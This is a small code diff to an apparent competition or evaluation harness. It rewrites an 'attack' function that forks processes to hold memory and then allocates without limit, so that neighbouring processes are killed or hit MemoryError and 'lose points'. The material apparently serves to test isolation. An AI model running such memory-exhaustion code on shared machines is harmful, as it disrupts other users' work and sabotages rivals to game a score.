@@ -1,4 +1,4 @@
-"""Uses nearly all the memory that it may, in several processes, and keeps writing to it.
+"""Keeps as much memory as it may for a while, in several processes, and then takes all there is.
 
 Success: a neighbor's process is killed or its code raises a MemoryError, so that it loses points.
 """
@@ -11,15 +11,19 @@ def attack(submission):
         """
         import os, time
 
+        end = time.monotonic() + 15
         for _ in range(4):
             if not os.fork():
                 block = bytearray(200 << 20)
-                end = time.monotonic() + 20
                 while time.monotonic() < end:
                     for position in range(0, len(block), 4096):
                         block[position] = 1
                     time.sleep(0.5)
                 os._exit(0)
-        time.sleep(20)
+        while time.monotonic() < end:
+            time.sleep(0.5)
+        blocks = []
+        while True:
+            blocks.append(b"x" * (50 << 20))
     """
     )
